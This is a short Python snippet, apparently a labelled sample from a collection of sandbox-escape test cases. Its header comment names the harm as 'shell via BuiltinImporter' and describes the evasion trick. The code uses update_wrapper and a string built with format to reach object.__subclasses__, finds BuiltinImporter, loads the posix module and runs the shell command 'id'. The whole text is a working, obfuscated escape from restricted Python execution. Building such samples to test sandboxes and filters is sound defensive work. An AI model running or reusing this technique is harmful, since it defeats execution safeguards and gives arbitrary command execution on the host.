# HARM: shell via BuiltinImporter | TRICK: update_wrapper at module level, name built with str.format, wrapped=object; Base iterated directly
from functools import update_wrapper as uw
class Base: pass
uw(Base, object, ('__{}__'.format('subclasses'),), ())
for k in Base.__subclasses__():
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
